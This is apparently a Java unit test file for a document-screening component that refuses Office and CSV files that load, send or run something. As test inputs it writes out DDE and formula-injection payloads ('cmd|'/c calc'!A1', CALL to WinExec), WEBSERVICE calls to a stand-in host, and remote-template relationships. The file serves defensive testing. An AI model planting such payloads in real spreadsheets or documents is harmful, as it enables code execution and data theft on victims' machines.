package org.aidememoire.attachment.extraction;

import static org.aidememoire.attachment.extraction.SampleFiles.ENGLISH;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Office documents that load, send or run something, whatever their parts are called. */
class ActingOfficeFilesTest extends ExtractedFiles {

  private static final String TRANSITIONAL =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
  private static final byte[] OLE = {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 1, 2, 3, 4};

  /** In this JVM; {@code kept} or why not. */
  private static String verdict(Path file) throws Exception {
    try (OfficePackage container = OfficePackage.open(file)) {
      return "kept";
    } catch (RefusedException refused) {
      return refused.refusal.name();
    }
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private Path word(Map<String, byte[]> parts) throws Exception {
    return samples.with(samples.word("plain.docx", ENGLISH), parts);
  }

  private Path sheet(Map<String, byte[]> parts) throws Exception {
    Path plain = samples.sheet("plain.xlsx", book -> book.createSheet("a").createRow(0));
    return samples.with(plain, parts);
  }

  private static byte[] relations(String type, String mode, String target) {
    return bytes(
        "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
            + "<Relationship Id='r9' Type='%s' %s Target='%s'/></Relationships>"
                .formatted(type, mode, target));
  }

  private String related(String type, String mode, String target) throws Exception {
    return verdict(word(Map.of("word/_rels/settings.xml.rels", relations(type, mode, target))));
  }

  @ParameterizedTest
  @CsvSource({
    "attachedTemplate, External, ACTIVE_CONTENT",
    "AttachedTemplate, EXTERNAL, ACTIVE_CONTENT",
    "attachedTemplate, external, ACTIVE_CONTENT",
    "attachedTemplate/, External, ACTIVE_CONTENT",
    "image, External, ACTIVE_CONTENT",
    "frame, External, ACTIVE_CONTENT",
    "subDocument, External, ACTIVE_CONTENT",
    "SUBDOCUMENT, Internal, ACTIVE_CONTENT",
    "aFChunk, External, ACTIVE_CONTENT",
    "aFChunk, Internal, ACTIVE_CONTENT",
    "afchunk, Internal, ACTIVE_CONTENT",
    "mailMergeSource, External, ACTIVE_CONTENT",
    "oleObject, External, ACTIVE_CONTENT",
    "oleObject, Internal, EMBEDDED_FILES",
    "package, Internal, EMBEDDED_FILES",
    "control, Internal, ACTIVE_CONTENT",
    "webextensiontaskpanes, Internal, ACTIVE_CONTENT",
    "vbaProject, Internal, MACROS",
    "unheardOf, External, ACTIVE_CONTENT",
    "hyperlink, External, kept",
  })
  void aRelationshipIsJudgedByItsTypeInEverySpelling(String type, String mode, String verdict)
      throws Exception {
    for (String namespace : new String[] {TRANSITIONAL, STRICT, "urn:other/"}) {
      String target = mode.equalsIgnoreCase("external") ? "https://e.example/x" : "x.xml";
      assertEquals(
          verdict, related(namespace + type, "TargetMode='" + mode + "'", target), namespace);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"https://e.example/t.dotm", "\\\\e.example\\t.dotm", "file://e.example/t.dotm"})
  void aTemplateElsewhereIsRefusedAlsoWhereTheModeIsLeftOut(String target) throws Exception {
    assertEquals("ACTIVE_CONTENT", related(TRANSITIONAL + "attachedTemplate", "", target));
  }

  @Test
  void aChunkThatTheTextNamesIsRefused() throws Exception {
    assertEquals(
        "ACTIVE_CONTENT",
        verdict(word(Map.of("word/document.xml", body("<w:altChunk r:id='r1'/>")))));
    assertEquals(
        "ACTIVE_CONTENT",
        verdict(word(Map.of("word/document.xml", body("<w:subDoc r:id='r1'/>")))));
  }

  private static byte[] body(String inner) {
    return bytes(
        ("<w:document xmlns:w='http://purl.oclc.org/ooxml/wordprocessingml/main'"
                + " xmlns:r='http://purl.oclc.org/ooxml/officeDocument/relationships'"
                + " xmlns:v='urn:schemas-microsoft-com:vml'><w:body><w:p>%s</w:p></w:body></w:document>")
            .formatted(inner));
  }

  private static String field(String... pieces) {
    StringBuilder field = new StringBuilder("<w:r><w:fldChar w:fldCharType='begin'/></w:r>");
    for (String piece : pieces) {
      field.append("<w:r><w:instrText>").append(piece).append("</w:instrText></w:r>");
    }
    return field + "<w:r><w:fldChar w:fldCharType='end'/></w:r>";
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "INCLUDETEXT",
        "INCLUDEPICTURE",
        "includepicture",
        "DDE",
        "DDEAUTO",
        "LINK",
        "DATABASE",
        "IMPORT",
        "INCLUDE",
        "RD"
      })
  void aFieldThatReadsAnotherFileIsRefusedInEveryPart(String name) throws Exception {
    String rest = " \"\\\\\\\\e.example\\\\a.docx\"";
    for (String inner :
        new String[] {
          field(" " + name + rest),
          field(name.substring(0, 1), name.substring(1), rest),
          field("IF 1 = 1 ") + field(name + rest),
          "<w:r><w:instrText>" + name + "</w:instrText></w:r>",
          "<w:fldSimple w:instr='" + name + " x'><w:r><w:t>x</w:t></w:r></w:fldSimple>"
        }) {
      for (String part :
          new String[] {"word/document.xml", "word/header7.xml", "word/glossary/comments.xml"}) {
        assertEquals(
            "ACTIVE_CONTENT", verdict(word(Map.of(part, body(inner)))), part + ": " + inner);
      }
    }
  }

  @Test
  void fieldsAndLinksThatFetchNothingAreKept() throws Exception {
    String harmless =
        field(" PAGE ")
            + field(" TOC \\o ")
            + field(" HYPERLINK \"https://law.example/act\" ")
            + field(" REF DDE ")
            + "<w:r><w:t>INCLUDETEXT and DDE are words here</w:t></w:r>"
            + "<w:hyperlink r:id='r1'><w:r><w:t>the act</w:t></w:r></w:hyperlink>";
    assertEquals("kept", verdict(word(Map.of("word/document.xml", body(harmless)))));
  }

  @Test
  void aPictureThatIsLinkedIsRefused() throws Exception {
    for (String picture :
        new String[] {
          "<w:blip r:link='r1'/>",
          "<v:imagedata r:href='r1'/>",
          "<v:imagedata src='https://e.example/p.png'/>"
        }) {
      assertEquals(
          "ACTIVE_CONTENT", verdict(word(Map.of("word/document.xml", body(picture)))), picture);
    }
    assertEquals(
        "kept", verdict(word(Map.of("word/document.xml", body("<v:imagedata r:id='r1'/>")))));
  }

  private String typed(String contentType) throws Exception {
    Path plain = samples.word("plain.docx", ENGLISH);
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (ZipFile zip = new ZipFile(plain.toFile())) {
      var entry = zip.getEntry("[Content_Types].xml");
      String types =
          new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8)
              .replace(
                  "</Types>",
                  "<Override PartName='/word/theme9.xml' ContentType='%s'/></Types>"
                      .formatted(contentType));
      parts.put("[Content_Types].xml", bytes(types));
      parts.put("word/theme9.xml", bytes("<a/>"));
    }
    return verdict(samples.with(plain, parts));
  }

  @ParameterizedTest
  @CsvSource({
    "application/vnd.ms-office.vbaProject, MACROS",
    "application/vnd.ms-office.VBAPROJECT, MACROS",
    "application/vnd.ms-word.vbaData+xml, MACROS",
    "application/vnd.ms-word.document.macroEnabled.main+xml, MACROS",
    "application/vnd.ms-excel.macrosheet+xml, MACROS",
    "application/vnd.ms-office.activeX+xml, ACTIVE_CONTENT",
    "application/vnd.openxmlformats-officedocument.theme+xml, kept",
  })
  void aMacroPartUnderAnotherNameIsKnownByItsType(String type, String verdict) throws Exception {
    assertEquals(verdict, typed(type));
  }

  @Test
  void anObjectOrMacrosUnderAnotherNameAreKnownByTheirBytes() throws Exception {
    assertEquals("EMBEDDED_FILES", verdict(word(Map.of("word/media/image1.png", OLE))));
    byte[] project = java.util.Arrays.copyOf(OLE, 64);
    System.arraycopy("_VBA_".getBytes(StandardCharsets.UTF_16LE), 0, project, 20, 10);
    assertEquals("MACROS", verdict(word(Map.of("word/styles7.xml", project))));
    byte[] document = Files.readAllBytes(samples.word("inner.docx", "x"));
    assertEquals("EMBEDDED_FILES", verdict(word(Map.of("word/media/image2.png", document))));
  }

  @Test
  void aPartThatIsThereTwiceIsRefused() throws Exception {
    assertEquals("BROKEN", verdict(word(Map.of("word/DOCUMENT.xml", bytes("<a/>")))));
  }

  @Test
  void aChartKeepsItsFigures() throws Exception {
    byte[] figures =
        Files.readAllBytes(samples.sheet("figures.xlsx", book -> book.createSheet("f")));
    assertEquals(
        "kept",
        verdict(
            word(
                Map.of(
                    "word/embeddings/Sheet1.xlsx",
                    figures,
                    "word/charts/_rels/chart1.xml.rels",
                    relations(TRANSITIONAL + "package", "", "../embeddings/Sheet1.xlsx")))));
  }

  private String formula(String element, String formula) throws Exception {
    String sheet =
        "<worksheet xmlns='http://purl.oclc.org/ooxml/spreadsheetml/main'><sheetData><row><c><%s>%s</%s>"
            + "<v>0</v></c></row></sheetData></worksheet>";
    return verdict(
        sheet(
            Map.of(
                "xl/worksheets/sheet1.xml",
                bytes(sheet.formatted(element, formula.replace("&", "&amp;"), element)))));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cmd|'/c calc'!A1",
        "'cmd'|'/c calc'!A1",
        "SUM(1,cmd|x!A1)",
        "WEBSERVICE(\"https://e.example/\"&A1)",
        "_xlfn.WEBSERVICE(A1)",
        "_xlfn._xlws.image(\"https://e.example/p\")",
        "RTD(\"prog\",,\"x\")",
        "1+CALL(\"kernel32\",\"WinExec\",\"JFJ\")"
      })
  void aFormulaThatStartsOrFetchesIsRefused(String formula) throws Exception {
    for (String element : new String[] {"f", "formula1", "definedName"}) {
      assertEquals("ACTIVE_CONTENT", formula(element, formula), element);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(A1:A9)",
        "\"a|b\"&C1",
        "'wages|2024'!A1",
        "HYPERLINK(\"https://law.example\",\"the act\")",
        "Table1[[#All],[a|b]]",
        "MYIMAGE(A1)",
        "\"WEBSERVICE(\""
      })
  void ordinaryFormulasAreKept(String formula) throws Exception {
    assertEquals("kept", formula("f", formula));
  }

  @Test
  void dataFromElsewhereThatIsFetchedOnOpeningIsRefused() throws Exception {
    String links =
        "<externalLink xmlns='http://purl.oclc.org/ooxml/spreadsheetml/main'>%s</externalLink>";
    for (String link : new String[] {"<ddeLink ddeService='cmd' ddeTopic='x'/>", "<oleLink/>"}) {
      assertEquals(
          "ACTIVE_CONTENT", verdict(sheet(Map.of("xl/other/a.xml", bytes(links.formatted(link))))));
    }
    assertEquals(
        "ACTIVE_CONTENT",
        verdict(
            sheet(
                Map.of(
                    "xl/connections.xml",
                    bytes("<connections><connection refreshOnLoad='1'/></connections>")))));
    String path = "xl/externalLinks/_rels/externalLink1.xml.rels";
    String type = TRANSITIONAL + "externalLinkPath";
    assertEquals(
        "ACTIVE_CONTENT",
        verdict(
            sheet(
                Map.of(
                    path, relations(type, "TargetMode='External'", "https://e.example/a.xlsx")))));
    assertEquals(
        "kept",
        verdict(sheet(Map.of(path, relations(type, "TargetMode='External'", "rates.xlsx")))));
  }

  @Test
  void oldMacroSheetsAreKnownByTheirContent() throws Exception {
    assertEquals("MACROS", verdict(sheet(Map.of("xl/worksheets/s9.xml", bytes("<macrosheet/>")))));
    assertEquals(
        "MACROS",
        verdict(
            sheet(
                Map.of(
                    "xl/names.xml",
                    bytes(
                        "<definedNames><definedName name='Auto_Open'>x</definedName></definedNames>")))));
  }

  @Test
  void aTextThatASpreadsheetWouldComputeIsRefused() throws Exception {
    refused(
        Refusal.ACTIVE_CONTENT,
        samples.text("rates.csv", "place,rate\nBangkok,=cmd|'/c calc'!A0\n"));
    sound(
        samples.text(
            "table.md", "| place | rate |\n|---|---|\n- wages | more!\n| = 363 | yes! |\n"));
  }

  @Test
  void theProcessSaysWhatActs() throws Exception {
    assertEquals(
        new Outcome.Refused(Refusal.ACTIVE_CONTENT, "word/document.xml: field INCLUDETEXT"),
        check(word(Map.of("word/document.xml", body(field("INCLUDETEXT \"x\""))))));
  }
}
